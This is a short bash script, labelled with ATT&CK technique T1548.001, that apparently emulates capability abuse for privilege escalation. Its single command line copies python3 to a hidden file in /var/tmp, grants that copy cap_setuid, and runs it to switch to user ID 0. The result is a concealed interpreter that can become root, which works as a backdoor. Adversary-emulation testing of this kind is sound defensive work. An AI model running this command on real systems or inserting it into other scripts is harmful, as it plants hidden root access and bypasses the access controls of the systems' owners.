#!/bin/bash
# T1548.001: A copy of an interpreter may become root.
cp $(readlink -f /usr/bin/python3) /var/tmp/.py; setcap cap_setuid+ep /var/tmp/.py; /var/tmp/.py -c 'import os;os.setuid(0)'
